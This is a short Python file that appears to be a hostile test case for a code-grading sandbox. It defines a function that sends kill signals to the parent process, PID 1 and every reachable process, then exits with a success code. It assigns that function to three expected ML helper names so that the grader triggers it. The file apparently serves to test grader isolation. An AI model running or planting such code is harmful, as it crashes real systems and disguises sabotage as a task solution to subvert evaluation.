"""End the parent and every process that can be reached, with the exit code of success.

A safe grader loses the process that did it, and nothing beside that.

Expected: crashed, 0 points
"""

import os
import signal


def fake(*args):
    """Send every signal to everybody."""
    for target in (os.getppid(), 1, 0, -1):
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                continue
    os._exit(0)


gradient_of_mean_square = parameter_gradients = predict_without_tracking = fake
